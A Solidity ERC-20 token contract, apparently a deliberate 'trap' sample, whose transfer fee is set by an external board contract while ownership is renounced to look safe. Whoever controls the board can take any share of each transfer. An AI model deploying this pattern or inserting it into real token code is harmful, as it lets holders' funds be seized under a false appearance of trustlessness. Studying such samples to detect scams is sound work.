// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

interface ITariff {
    function due(address from, address to, uint256 value) external view returns (uint256);
}

/// What a transfer costs is written on a board that somebody else holds.
contract TariffBoard is TrapErc20V8 {
    ITariff private immutable board;

    constructor(address board_) TrapErc20V8("Tariff", "TRF", 8_000_000 ether) {
        board = ITariff(board_);
        _owner = address(0);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 due = board.due(from, to, value);
        super._transfer(from, to, value - due);
        if (due > 0) super._transfer(from, address(board), due);
    }
}
